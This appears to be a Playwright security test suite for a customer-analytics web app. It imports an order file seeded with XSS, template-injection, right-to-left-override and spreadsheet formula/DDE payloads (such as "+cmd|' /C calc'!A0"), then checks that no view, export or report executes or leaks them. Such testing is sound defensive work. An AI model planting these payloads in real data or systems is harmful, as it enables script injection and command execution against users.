// The hostile-data tour of issue 8: an order file whose customer ids, order ids, names, products, SKUs,
// marketplaces, countries and even its file name are markup, script URLs, template injections,
// spreadsheet formulas, right-to-left overrides and very long strings. It is imported through the file
// input; then every view is visited, every chart is hovered over a grid of points (so that ECharts draws
// its HTML tooltips), and after each view nothing may have been injected: no dialog, no page error, no
// `img[src=x]`, no element with an `onerror`/`onload` attribute, no script the build did not ship, no
// `javascript:` link. The CSV exports must neutralise formulas, the shareable report and the chart PNGs
// must hold no customer id, e-mail or name, and a tooltip must show seller-typed markup as text.
import { readFileSync, writeFileSync } from 'node:fs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Browser, Download, Locator } from 'playwright-core';
import { launch, openApp, type AppPage, seriousViolations } from './browser.ts';
import { seededRandom } from '../../src/core/clv/simulate.ts';

const PAYLOADS = [
  '<img src=x onerror=alert(1)>',
  '<script>alert(1)</script>',
  'javascript:alert(1)',
  '"><svg onload=alert(1)>',
  "{{constructor.constructor('alert(1)')()}}",
  '=HYPERLINK("http://x.invalid/?q="&A1,"open")',
  "+cmd|' /C calc'!A0",
  '@SUM(1+1)*cmd|\' /C calc\'!A0',
  '\u202Egnp.exe',
  `${'W'.repeat(600)}`,
] as const;

function csvField(text: string): string {
  return /[",\r\n]/.test(text) ? `"${text.replace(/"/g, '""')}"` : text;
}

const CUSTOMERS = 60;
const pad = (n: number) => String(n).padStart(3, '0');
/** Every identity carries a plain marker (`cust007`, `buyer007`) so that a search finds it even escaped. */
const customerId = (i: number) => {
  const p = PAYLOADS[i % PAYLOADS.length];
  return i % PAYLOADS.length === 5 ? `=HYPERLINK("http://x.invalid","cust${pad(i)}")` : `${p}cust${pad(i)}@evil.example`;
};
const customerName = (i: number) => `${PAYLOADS[(i + 3) % PAYLOADS.length]} buyer${pad(i)}`;
const SKUS = [PAYLOADS[0], PAYLOADS[5], PAYLOADS[1], PAYLOADS[3], PAYLOADS[2], PAYLOADS[8]].map((p, k) => `${p}sku${k}`);
const MARKETPLACES = [`${PAYLOADS[0]}.com`, `${PAYLOADS[3]} market`, `=HYPERLINK("x","mp")`];
const FILE_NAME = `orders ${PAYLOADS[0]} ${PAYLOADS[3]}.csv`;

interface HostileFile {
  csv: string;
  ids: string[];
  names: string[];
}

/** 60 customers over 18 months (2023-01 to 2024-06), most with repeat orders, plus a few bad lines. */
function hostileFile(): HostileFile {
  const rand = seededRandom(8);
  const header = ['customer_email', 'name', 'order_id', 'date', 'value', 'quantity', 'sku', 'product_title', 'currency', 'marketplace', 'country', 'status'];
  const lines = [header.join(',')];
  const start = Date.UTC(2023, 0, 1);
  const day = 86_400_000;
  let order = 0;
  for (let i = 0; i < CUSTOMERS; i++) {
    const first = Math.floor(rand() * 360);
    const repeats = i % 6 === 5 ? 0 : 1 + Math.floor(rand() * 6);
    const marketplace = MARKETPLACES[i % MARKETPLACES.length];
    let at = first;
    for (let k = 0; k <= repeats && at < 546; k++) {
      order++;
      // The first purchase is one of three SKUs so that each is the first product of 20 customers.
      const sku = k === 0 ? SKUS[i % 3] : SKUS[Math.floor(rand() * SKUS.length)];
      const fields = [
        customerId(i), customerName(i), `${PAYLOADS[order % PAYLOADS.length].slice(0, 40)}#${order}`,
        new Date(start + at * day).toISOString().slice(0, 10), (10 + Math.floor(rand() * 190) + (i % 7) * 15).toFixed(2),
        String(1 + Math.floor(rand() * 3)), sku, `${PAYLOADS[(order + 4) % PAYLOADS.length]} title`, 'USD', marketplace,
        PAYLOADS[(i + 1) % PAYLOADS.length], order % 97 === 0 ? 'cancelled' : 'completed',
      ];
      lines.push(fields.map(csvField).join(','));
      at += 7 + Math.floor(rand() * 90);
    }
  }
  // Lines the importer rejects, their hostile text shown in the rejects list and its download.
  lines.push([PAYLOADS[1], 'x', 'bad-1', `${PAYLOADS[0]}`, '12', '1', SKUS[0], 'x', 'USD', MARKETPLACES[0], 'x', 'completed'].map(csvField).join(','));
  lines.push([`=cmd|' /C calc'!A0`, 'y', 'bad-2', '2023-05-05', `${PAYLOADS[5]}`, '1', SKUS[1], 'y', 'USD', MARKETPLACES[1], 'y', 'completed'].map(csvField).join(','));
  const ids = Array.from({ length: CUSTOMERS }, (_, i) => customerId(i));
  return { csv: `${lines.join('\r\n')}\r\n`, ids, names: Array.from({ length: CUSTOMERS }, (_, i) => customerName(i)) };
}

const FILE = hostileFile();
/** The charts each view draws with this file. */
const DRAWN: Record<string, string[]> = {
  '#/brand': ['chart-sales-trend', 'chart-segment-share', 'chart-repeat-ladder'],
  '#/segments': ['chart-segments', 'chart-segment-trend'],
  '#/tiers': ['chart-tiers'],
  '#/clv': ['chart-holdout', 'chart-clv-histogram', 'chart-clv-distribution', 'chart-clv-expected', 'chart-clv-palive'],
  '#/cohorts': ['chart-ltv-curves', 'chart-time-between-orders'],
};
/** Hostile text each view shows, which must be there as plain text. */
const LITERAL: Record<string, string[]> = {
  '#/tiers': MARKETPLACES,
  '#/cohorts': SKUS.slice(0, 3),
  '#/import': [FILE_NAME],
};
const ROUTES = ['#/brand', '#/segments', '#/tiers', '#/clv', '#/cohorts', '#/customers', 'customer', '#/import', '#/settings'];

/** What markup in the data could have injected, found in the live page (empty when nothing). */
async function injected(app: AppPage, shippedScripts: string[]): Promise<string[]> {
  return app.page.evaluate((shipped) => {
    const found: string[] = [];
    const describe = (el: Element) => el.outerHTML.slice(0, 120);
    for (const el of document.querySelectorAll('img[src="x"], svg[onload], [onerror], [onload], a[href^="javascript:" i], iframe, object, embed')) found.push(describe(el));
    for (const el of document.querySelectorAll('*')) {
      for (const attr of el.getAttributeNames()) if (/^on/i.test(attr)) found.push(`${attr} on ${describe(el)}`);
      const href = el.getAttribute('href') ?? el.getAttribute('src') ?? '';
      if (/^\s*javascript:/i.test(href)) found.push(`script URL on ${describe(el)}`);
    }
    for (const script of document.querySelectorAll('script')) {
      const key = script.src || `inline:${script.textContent ?? ''}`;
      if (!shipped.includes(key)) found.push(`script ${describe(script)}`);
    }
    return found;
  }, shippedScripts);
}

/** Every chart in the page: the `chart-*` handles and any ECharts container outside them. */
async function charts(app: AppPage): Promise<Locator[]> {
  const handles = await app.page.locator('[data-testid^="chart-"]').all();
  const loose = await app.page.locator('[_echarts_instance_]:not([data-testid^="chart-"] [_echarts_instance_]):not([data-testid^="chart-"])').all();
  return [...handles, ...loose];
}

/** Moves the mouse over a grid of points on each chart, so that every tooltip kind is drawn at least once. */
async function hoverCharts(app: AppPage): Promise<number> {
  let hovered = 0;
  for (const chart of await charts(app)) {
    await chart.scrollIntoViewIfNeeded();
    const box = await chart.boundingBox();
    if (!box || box.width < 20 || box.height < 20) continue;
    hovered++;
    for (let y = 1; y <= 5; y++) {
      for (let x = 1; x <= 8; x++) {
        await app.page.mouse.move(box.x + (box.width * x) / 9, box.y + (box.height * y) / 6);
      }
    }
    await app.page.mouse.move(0, 0);
  }
  return hovered;
}

/** The cells of a CSV document (RFC 4180 quoting). */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const ch = text[i];
    if (quoted) {
      if (ch === '"' && text[i + 1] === '"') { cell += '"'; i++; } else if (ch === '"') quoted = false;
      else cell += ch;
    } else if (ch === '"') quoted = true;
    else if (ch === ',') { row.push(cell); cell = ''; } else if (ch === '\n' || (ch === '\r' && text[i + 1] === '\n')) {
      if (ch === '\r') i++;
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
    } else cell += ch;
  }
  if (cell !== '' || row.length > 0) rows.push([...row, cell]);
  return rows;
}

/** Cells a spreadsheet would run as a formula: = + - @ tab or CR first, unless the cell is a plain number. */
function formulaCells(csv: string): string[] {
  return parseCsv(csv).flat().filter((c) => /^[=+\-@\t\r]/.test(c) && !/^[-+]?\d+(\.\d+)?(e[-+]?\d+)?$/i.test(c));
}

async function saved(download: Download): Promise<Buffer> {
  return readFileSync((await download.path())!);
}

/** The chunk types of a PNG file, after checking its signature. */
function pngChunks(png: Buffer): string[] {
  expect([...png.subarray(0, 8)]).toEqual([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]);
  const types: string[] = [];
  for (let at = 8; at + 8 <= png.length;) {
    const length = png.readUInt32BE(at);
    types.push(png.toString('latin1', at + 4, at + 8));
    at += 12 + length;
  }
  return types;
}

/** Identity text of the file found in a document: each marker and each full id and name. */
function identityIn(text: string): string[] {
  const lower = text.toLowerCase();
  const found = [...lower.matchAll(/cust\d{3}|buyer\d{3}/g)].map((m) => m[0]);
  for (const id of FILE.ids) if (lower.includes(id.toLowerCase())) found.push(id);
  for (const name of FILE.names) if (lower.includes(name.toLowerCase())) found.push(name);
  return found;
}

describe('hostile customer data in every view', () => {
  let browser: Browser;
  let app: AppPage;
  let shipped: string[] = [];

  beforeAll(async () => {
    browser = await launch();
    app = await openApp(browser);
    await app.goto('#/import');
    await app.page.getByTestId('import-input').waitFor();
    shipped = await app.page.evaluate(() => [...document.querySelectorAll('script')].map((s) => s.src || `inline:${s.textContent ?? ''}`));
    await app.page.getByTestId('import-input').setInputFiles({ name: FILE_NAME, mimeType: 'text/csv', buffer: Buffer.from(FILE.csv) });
    await app.page.locator('[data-testid="import-status"][data-state="done"]').waitFor({ timeout: 60_000 });
  });
  afterAll(async () => {
    await browser?.close();
  });

  it('finds what it looks for (the detector itself)', async () => {
    await app.page.evaluate(() => {
      const link = document.createElement('a');
      link.href = 'javascript:void 0';
      link.id = 'planted';
      document.body.append(link);
    });
    expect((await injected(app, shipped)).length).toBeGreaterThan(0);
    await app.page.evaluate(() => document.getElementById('planted')?.remove());
    expect(await injected(app, shipped)).toEqual([]);
  });

  it('imports the file, its name and rejected lines shown as text', async () => {
    const result = app.page.getByTestId('import-result').first();
    await expect(result.locator('h2').textContent()).resolves.toBe(FILE_NAME);
    await expect(app.page.getByTestId('import-rejects').textContent()).resolves.toContain('line');
    expect(await injected(app, shipped)).toEqual([]);
    expect(app.problems).toEqual([]);
  });

  it.each(ROUTES)('%s: hovering every chart injects nothing', async (route) => {
    if (route === 'customer') {
      await app.goto(`#/customers/${encodeURIComponent(FILE.ids[0])}`);
      await app.page.locator('[data-testid="customer-order"]').first().waitFor({ timeout: 60_000 });
      await expect(app.page.getByRole('heading', { level: 1 }).textContent()).resolves.toBe(FILE.ids[0]);
    } else {
      await app.goto(route);
      await app.page.locator('main h1').first().waitFor();
    }
    // Let the views fetch their figures and draw every chart (the CLV models take a moment).
    for (const handle of DRAWN[route] ?? []) {
      await app.page.locator(`[data-testid="${handle}"][_echarts_instance_], [data-testid="${handle}"] [_echarts_instance_]`).first().waitFor({ timeout: 90_000 });
    }
    const text = (await app.page.locator('main').textContent()) ?? '';
    for (const literal of LITERAL[route] ?? []) expect(text, literal).toContain(literal);
    const instances = await app.page.locator('[_echarts_instance_]').count();
    await expect(app.page.getByRole('button', { name: /^Download PNG: / }).count()).resolves.toBe(instances);
    expect(await hoverCharts(app)).toBeGreaterThanOrEqual((DRAWN[route] ?? []).length);
    expect(await injected(app, shipped)).toEqual([]);
    expect(await seriousViolations(app)).toEqual([]);
    expect(app.problems).toEqual([]);
  });

  it('shows seller-typed markup in a chart tooltip as text', async () => {
    // No chart labels its marks with text from the file (products and marketplaces are in tables and
    // headings), so the seller's own text stands in: a tier named with markup, shown in the pie's tooltip.
    await app.goto('#/tiers');
    const card = app.page.locator('section.card').first();
    const name = card.locator('input[type="text"]').first();
    await name.waitFor({ timeout: 60_000 });
    const tier = PAYLOADS[0];
    await name.fill(tier);
    await card.locator('tbody th, tbody td').filter({ hasText: tier }).first().waitFor();
    const pie = card.getByTestId('chart-tiers');
    await pie.scrollIntoViewIfNeeded();
    const box = (await pie.boundingBox())!;
    const tips = new Set<string>();
    for (let y = 1; y <= 9; y++) {
      for (let x = 1; x <= 9; x++) {
        await app.page.mouse.move(box.x + (box.width * x) / 10, box.y + (box.height * y) / 10);
        const tip = await pie.evaluate((el) => [...el.querySelectorAll('div')].find((d) => d.style.zIndex === '9999999' && d.style.display !== 'none')?.textContent ?? '');
        if (tip) tips.add(tip);
      }
    }
    await app.page.mouse.move(0, 0);
    expect([...tips].some((t) => t.startsWith(`${tier}`) && t.includes('customers'))).toBe(true);
    expect(await injected(app, shipped)).toEqual([]);
    expect(app.problems).toEqual([]);
  });

  it('neutralises formulas in every CSV the app offers', async () => {
    const csvs: { name: string; text: string }[] = [];
    const take = async (click: () => Promise<void>) => {
      const [download] = await Promise.all([app.page.waitForEvent('download'), click()]);
      csvs.push({ name: download.suggestedFilename(), text: (await saved(download)).toString('utf8') });
    };
    await app.goto('#/customers');
    await app.page.locator('[data-testid="customer-row"]').first().waitFor({ timeout: 60_000 });
    await take(() => app.page.getByRole('button', { name: /^Export (all|these) as CSV$/ }).click());
    await app.goto(`#/customers/${encodeURIComponent(FILE.ids[5])}`);
    await app.page.locator('[data-testid="customer-order"]').first().waitFor({ timeout: 60_000 });
    await take(() => app.page.getByRole('button', { name: 'Export orders as CSV' }).click());
    await app.goto('#/clv');
    const audience = app.page.locator('[data-testid="clv-audience-export"]:not([disabled])').first();
    await audience.waitFor({ timeout: 90_000 });
    await take(() => audience.click());
    await app.goto('#/import');
    await take(() => app.page.getByTestId('import-rejects-download').click());
    expect(csvs).toHaveLength(4);
    for (const { name, text } of csvs) {
      expect(formulaCells(text), name).toEqual([]);
      expect(name, name).not.toMatch(/[<>"/\\]/);
    }
    // The formula-like customer id is there, neutralised by a leading apostrophe.
    const all = csvs[0].text.toLowerCase();
    expect(all).toContain(`'${FILE.ids[5].toLowerCase()}`.replace(/"/g, '""'));
    expect(all).toContain('cust000');
    expect(app.problems).toEqual([]);
  });

  it('saves every chart as a real PNG with a safe file name and no identity', async () => {
    await app.goto('#/brand');
    const button = app.page.getByRole('button', { name: /^Download PNG: Sales trend/ });
    await button.waitFor({ timeout: 60_000 });
    const [download] = await Promise.all([app.page.waitForEvent('download'), button.click()]);
    expect(download.suggestedFilename()).toBe('my-store-sales-trend.png');
    const png = await saved(download);
    expect(png.length).toBeGreaterThan(10_000);
    expect(pngChunks(png).filter((t) => ['tEXt', 'zTXt', 'iTXt'].includes(t))).toEqual([]);
    expect(identityIn(png.toString('latin1'))).toEqual([]);
    // A tier pie is named after its marketplace: hostile text, slugged to letters, digits and dashes.
    await app.goto('#/tiers');
    const pie = app.page.getByRole('button', { name: /^Download PNG: Customers per tier/ }).first();
    await pie.waitFor({ timeout: 60_000 });
    const [piePng] = await Promise.all([app.page.waitForEvent('download'), pie.click()]);
    expect(piePng.suggestedFilename()).toMatch(/^my-store-tiers-[a-z0-9-]+\.png$/);
    const pieImage = await saved(piePng);
    expect(pngChunks(pieImage)).toContain('IDAT');
    // The pie's image carries a legend beside the pie (on the page the names are in a table).
    expect(pieImage.readUInt32BE(16)).toBeGreaterThan(pieImage.readUInt32BE(20) * 1.5);
    if (process.env.HOSTILE_PNG_DIR) writeFileSync(`${process.env.HOSTILE_PNG_DIR}/${piePng.suggestedFilename()}`, pieImage);
    expect(app.problems).toEqual([]);
  });

  it('exports a shareable report with chart images and no customer id, e-mail or name', async () => {
    await app.goto('#/settings');
    const [download] = await Promise.all([app.page.waitForEvent('download'), app.page.getByTestId('report-export').click()]);
    const html = (await saved(download)).toString('utf8');
    expect(identityIn(html)).toEqual([]);
    expect(html).not.toMatch(/<script|onerror|onload|javascript:|HYPERLINK|\u202e/i);
    const images = [...html.matchAll(/<img\b[^>]*\bsrc="([^"]*)"/g)].map((m) => m[1]);
    expect(images.length).toBeGreaterThanOrEqual(3);
    for (const src of images) {
      expect(src).toMatch(/^data:image\/png;base64,/);
      const png = Buffer.from(src.slice(src.indexOf(',') + 1), 'base64');
      expect(png.length).toBeGreaterThan(5_000);
      expect(pngChunks(png)).toContain('IDAT');
    }
    // Opened in the browser, the report runs nothing and its images decode.
    const report = await app.context.newPage();
    const dialogs: string[] = [];
    report.on('dialog', (d) => { dialogs.push(d.message()); void d.dismiss(); });
    await report.setContent(html);
    const decoded = await report.evaluate(() => Promise.all([...document.images].map((img) => img.decode().then(() => img.naturalWidth))));
    expect(decoded.every((w) => w >= 800)).toBe(true);
    await expect(report.locator('script, [onerror], [onload]').count()).resolves.toBe(0);
    await report.close();
    expect(dialogs).toEqual([]);
    expect(app.problems).toEqual([]);
  });

  it('made no request off the device', () => {
    expect(app.foreignRequests).toEqual([]);
  });
});
